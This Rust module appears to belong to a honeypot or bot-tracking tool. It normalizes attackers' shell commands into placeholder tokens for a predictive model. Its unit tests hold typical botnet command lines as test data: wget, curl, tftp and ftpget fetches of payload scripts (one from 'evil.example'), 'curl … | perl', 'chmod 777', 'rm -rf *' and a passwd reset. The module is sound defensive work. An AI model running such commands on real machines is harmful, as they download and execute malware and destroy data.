//! A command's normalized token: the command with whitespace collapsed and its volatile
//! arguments (URLs, IPs, hex and base64 blobs, long numbers, random-looking file names, long
//! quoted payloads) replaced by placeholders, so two bots running the same template with other
//! values give the same token. Layer 1 (`markov`) predicts these tokens.
//!
//! Pure and total: never fails, never panics, whatever the input.

use super::commands::{Command, split};

/// A URL (`http://…`, `ftp://…`).
pub const URL: &str = "<URL>";
/// An IPv4 address, with or without a port.
pub const IP: &str = "<IP>";
/// A number of three digits or more.
pub const NUM: &str = "<NUM>";
/// A hex blob or a run of `\xNN` escapes.
pub const HEX: &str = "<HEX>";
/// A base64-looking blob.
pub const B64: &str = "<B64>";
/// A long quoted string (an echo payload, a password pair, a key).
pub const STR: &str = "<STR>";
/// A random-looking file or directory name.
pub const RND: &str = "<RND>";

/// How the data set writes a session's own IP address inside its commands; a live node sees
/// the address itself, which is an [`IP`].
const SRC_IP: &str = "<SRC_IP>";

/// Programs whose arguments name files they fetch ([`Normalized::fetched`]).
const FETCHERS: &[&str] = &[
    "wget",
    "curl",
    "tftp",
    "ftpget",
    "sget",
    "fetch",
    "lwp-download",
];

/// Longest fetched file name remembered, in bytes.
const MAX_NAME: usize = 64;

/// A normalized command and the program it runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Normalized {
    /// The normalized token (`wget <URL>; chmod 777 <RND>` style, one command).
    pub token: String,
    /// The program of its first stage (`wget`), empty when none.
    pub program: String,
    /// Names of the files the command fetches (`bins.sh` of `wget http://…/bins.sh`,
    /// `tftp1.sh` of `tftp … -c get tftp1.sh`), as they appear in later commands' tokens.
    /// The predictor refers to them by position, so `chmod 777 x.sh` after fetching `x.sh`
    /// is learned as "chmod the first fetched file" whatever the campaign calls it.
    pub fetched: Vec<String>,
}

/// The normalized commands of one input line (split on `;` and newlines outside quotes).
pub fn normalize_line(line: &str) -> Vec<Normalized> {
    split(line).iter().map(normalize_command).collect()
}

/// One command's normalized token and program.
pub fn normalize_command(command: &Command) -> Normalized {
    let program = command
        .stages
        .first()
        .map(|stage| stage.program().to_owned())
        .unwrap_or_default();
    Normalized {
        token: normalize_text(&command.text),
        program,
        fetched: fetched_names(command),
    }
}

/// The file names a command's fetching stages name: URL and path basenames, and bare
/// arguments that look like file names (`tftp1.sh`). Names the normalizer would replace by a
/// placeholder anyway (`<RND>`, `<HEX>`) are left out: the token has no trace of them.
fn fetched_names(command: &Command) -> Vec<String> {
    let mut names: Vec<String> = Vec::new();
    for stage in &command.stages {
        if !FETCHERS.contains(&stage.program()) {
            continue;
        }
        for arg in stage.args() {
            if arg.starts_with('-') || is_ip(arg) {
                continue;
            }
            let path = arg.split_once("://").map_or(arg.as_str(), |(_, rest)| {
                rest.split_once('/').map_or("", |(_, path)| path)
            });
            let path = path.split(['?', '#']).next().unwrap_or("");
            let name = if arg.contains('/') {
                path.rsplit('/').next().unwrap_or("")
            } else if arg.contains('.') {
                arg.as_str()
            } else {
                ""
            };
            if !name.is_empty()
                && name.len() <= MAX_NAME
                && !name.contains(['<', '>', '$', '`', '\\', '\'', '"'])
                && normalize_word(name) == name
                && !names.iter().any(|n| n == name)
            {
                names.push(name.to_owned());
            }
        }
    }
    names
}

/// The normalized form of one command's text.
pub fn normalize_text(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut word = String::new();
    let text = if text.contains(SRC_IP) {
        std::borrow::Cow::Owned(text.replace(SRC_IP, "0.0.0.0"))
    } else {
        std::borrow::Cow::Borrowed(text)
    };
    let mut chars = without_line_end_escapes(&text).chars();
    let flush = |word: &mut String, out: &mut String| {
        if !word.is_empty() {
            if !out.is_empty() {
                out.push(' ');
            }
            out.push_str(&normalize_word(word));
            word.clear();
        }
    };
    while let Some(c) = chars.next() {
        match c {
            '\'' | '"' => {
                let mut quoted = String::new();
                let mut closed = false;
                let mut escaped = false;
                for q in chars.by_ref() {
                    if c == '"' && !escaped && q == '\\' {
                        escaped = true;
                        quoted.push(q);
                        continue;
                    }
                    if q == c && !escaped {
                        closed = true;
                        break;
                    }
                    escaped = false;
                    quoted.push(q);
                }
                if quoted.chars().count() > 10
                    || quoted.contains(char::is_whitespace)
                    || quoted.contains('\\')
                {
                    word.push_str(STR);
                } else {
                    word.push(c);
                    word.push_str(&normalize_word(&quoted));
                    if closed {
                        word.push(c);
                    }
                }
            }
            c if c.is_whitespace() => flush(&mut word, &mut out),
            c => word.push(c),
        }
    }
    flush(&mut word, &mut out);
    out
}

/// `text` without trailing *literal* `\r` and `\n` escapes: some bots send a backslash and
/// an `n` where they mean a line end (`rm -rf *\r\n`), and other builds of the same bot
/// don't.
fn without_line_end_escapes(mut text: &str) -> &str {
    loop {
        let trimmed = text.trim_end();
        match trimmed
            .strip_suffix("\\n")
            .or_else(|| trimmed.strip_suffix("\\r"))
        {
            Some(rest) if !rest.ends_with('\\') => text = rest,
            _ => return trimmed,
        }
    }
}

/// One whitespace-separated word, its volatile parts replaced.
fn normalize_word(word: &str) -> String {
    if word.contains("://") || is_bare_url(word) {
        return URL.to_owned();
    }
    if word.contains("\\x") && word.matches("\\x").count() >= 2 {
        return HEX.to_owned();
    }
    if let Some(kind) = classify(word) {
        return kind.to_owned();
    }
    // Paths, `key=value`, `user@host:port`: normalize each part.
    let mut out = String::with_capacity(word.len());
    let mut part = String::new();
    for c in word.chars() {
        if matches!(c, '/' | '=' | '@' | ',' | '>' | '<' | '(' | ')' | '`' | '$') {
            out.push_str(classify(&part).unwrap_or(&part));
            part.clear();
            out.push(c);
        } else {
            part.push(c);
        }
    }
    out.push_str(classify(&part).unwrap_or(&part));
    out
}

/// The placeholder for a volatile word or path part, or `None` to keep it.
fn classify(part: &str) -> Option<&'static str> {
    let len = part.chars().count();
    if len == 0 || part.starts_with('<') && part.ends_with('>') {
        return None;
    }
    if is_ip(part) {
        return Some(IP);
    }
    if len >= 3 && part.chars().all(|c| c.is_ascii_digit()) {
        return Some(NUM);
    }
    let digits = part.chars().filter(char::is_ascii_digit).count();
    let letters = part.chars().filter(char::is_ascii_alphabetic).count();
    if len >= 8 && digits > 0 && letters > 0 && part.chars().all(|c| c.is_ascii_hexdigit()) {
        return Some(HEX);
    }
    if len >= 20
        && part
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '='))
    {
        return Some(B64);
    }
    if looks_random(part, digits, letters) {
        return Some(RND);
    }
    None
}

/// A URL typed without its scheme: `host.name/path` or `1.2.3.4:8080/path` (a dotted host
/// of letters, digits and dashes whose last label is a word, or an IP, then a slash).
fn is_bare_url(word: &str) -> bool {
    let Some((host, _)) = word.split_once('/') else {
        return false;
    };
    if is_ip(host) {
        return true;
    }
    let host = host.split_once(':').map_or(host, |(host, _)| host);
    // Counted as it goes, like `is_ip`: no list of the labels is made.
    let (mut labels, mut tld) = (0, "");
    host.split('.').all(|l| {
        labels += 1;
        tld = l;
        !l.is_empty() && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
    }) && labels >= 2
        && tld.len() >= 2
        && tld.chars().all(|c| c.is_ascii_alphabetic())
}

/// Dotted quad, optionally with `:port`.
fn is_ip(part: &str) -> bool {
    let host = part.split_once(':').map_or(part, |(host, _)| host);
    // Counted as it goes: this runs on every word of every line the models see.
    let mut octets = 0;
    host.split('.').all(|o| {
        octets += 1;
        octets <= 4 && !o.is_empty() && o.len() <= 3 && o.chars().all(|c| c.is_ascii_digit())
    }) && octets == 4
}

/// A name of six characters or more mixing letters and digits in a way words don't
/// (`a8Fk2qZ`, `x86_64` stays: it has only two digits in a row and a known shape).
fn looks_random(part: &str, digits: usize, letters: usize) -> bool {
    let stem = part.split('.').next().unwrap_or(part);
    let len = stem.chars().count();
    if len < 6
        || !stem
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
    {
        return false;
    }
    // Letter/digit alternations: random names switch often, words and versions rarely.
    let mut switches = 0;
    let mut last: Option<bool> = None;
    for c in stem.chars().filter(char::is_ascii_alphanumeric) {
        let is_digit = c.is_ascii_digit();
        if last.is_some_and(|l| l != is_digit) {
            switches += 1;
        }
        last = Some(is_digit);
    }
    let upper = stem.chars().filter(char::is_ascii_uppercase).count();
    let lower = stem.chars().filter(char::is_ascii_lowercase).count();
    (digits >= 2 && letters >= 2 && switches >= 3) || (upper >= 2 && lower >= 2 && digits >= 1)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tokens(line: &str) -> Vec<String> {
        normalize_line(line).into_iter().map(|n| n.token).collect()
    }

    #[test]
    fn only_dotted_quads_read_as_addresses() {
        for ip in ["1.2.3.4", "203.0.113.5:8080", "999.0.0.1", "01.002.3.4:"] {
            assert!(is_ip(ip), "{ip}");
        }
        for other in [
            "1.2.3",
            "1.2.3.4.5",
            "1.2.3.4.",
            "1..3.4",
            "1.2.3.a",
            "1234.1.1.1",
            "",
            "x",
        ] {
            assert!(!is_ip(other), "{other}");
        }
    }

    #[test]
    fn downloads_with_other_urls_and_names_give_the_same_token() {
        let a = tokens("cd /tmp; wget http://1.2.3.4/bins.sh; chmod 777 bins.sh");
        let b = tokens("cd  /tmp ;wget https://evil.example/x/bins.sh;chmod 777 bins.sh");
        assert_eq!(a, b);
        assert_eq!(a, ["cd /tmp", "wget <URL>", "chmod <NUM> bins.sh"]);
    }

    #[test]
    fn ips_numbers_hex_and_quoted_payloads_become_placeholders() {
        assert_eq!(tokens("tftp -g -r x 203.0.113.7:69"), ["tftp -g -r x <IP>"]);
        assert_eq!(
            tokens(r#"echo -e "root123\nroot123" | passwd"#),
            ["echo -e <STR> | passwd"]
        );
        assert_eq!(
            tokens(r"echo -e '\x47\x72\x6f\x70/tmp' > /tmp/.nippon"),
            ["echo -e <STR> > /tmp/.nippon"]
        );
        assert_eq!(tokens("sleep 12345"), ["sleep <NUM>"]);
        assert_eq!(tokens("cat /tmp/deadbeef1234"), ["cat /tmp/<HEX>"]);
        assert_eq!(tokens("chmod +x /tmp/a8Fk2qZ9x"), ["chmod +x /tmp/<RND>"]);
    }

    #[test]
    fn ordinary_commands_stay_as_typed() {
        assert_eq!(tokens("uname -a"), ["uname -a"]);
        assert_eq!(
            tokens("cat /proc/cpuinfo | grep name | wc -l"),
            ["cat /proc/cpuinfo | grep name | wc -l"]
        );
        assert_eq!(tokens("ls -lh $(which ls)"), ["ls -lh $(which ls)"]);
        assert_eq!(normalize_line("/bin/busybox wget x")[0].program, "wget");
    }

    #[test]
    fn the_sessions_own_ip_line_end_escapes_and_bare_urls_are_normalized() {
        assert_eq!(
            tokens("tftp <SRC_IP> -c get t.sh"),
            tokens("tftp 203.0.113.9 -c get t.sh")
        );
        assert_eq!(tokens(r"rm -rf *\r\n"), ["rm -rf *"]);
        assert_eq!(
            tokens(r"echo a\\n"),
            [r"echo a\\n"],
            "an escaped backslash stays"
        );
        assert_eq!(tokens("wget www.example.ro/c.txt"), ["wget <URL>"]);
        assert_eq!(tokens("wget 198.51.100.4:81/x"), ["wget <URL>"]);
        assert_eq!(
            tokens("cat ./a.b/c"),
            ["cat ./a.b/c"],
            "a path is not a URL"
        );
    }

    #[test]
    fn fetching_commands_name_the_files_they_fetch() {
        let fetched = |line: &str| -> Vec<Vec<String>> {
            normalize_line(line)
                .into_iter()
                .map(|n| n.fetched)
                .collect()
        };
        assert_eq!(
            fetched(
                "wget http://a/x/bins.sh?v=1; tftp 1.2.3.4 -c get t1.sh; \
                 ftpget -v -P 21 1.2.3.4 f.sh f.sh; chmod 777 bins.sh"
            ),
            [vec!["bins.sh"], vec!["t1.sh"], vec!["f.sh"], vec![]]
        );
        assert_eq!(fetched("curl -O http://a/cz | perl"), [["cz"]]);
        // A random name is a placeholder in every token already; a bare host has no file.
        assert_eq!(fetched("wget http://a/a8Fk2qZ9x"), [Vec::<String>::new()]);
        assert_eq!(fetched("wget http://a/"), [Vec::<String>::new()]);
    }

    #[test]
    fn hostile_input_does_not_panic() {
        for line in [
            "'",
            "\"\\",
            "\u{0}é'ü\"",
            "a:b:c:d",
            "////",
            "<>",
            "1.2.3.4.5",
            "wget ://",
            "wget a.b/",
            "\\r\\n\\",
            "tftp <SRC_IP>",
        ] {
            let _ = normalize_line(line);
        }
    }
}
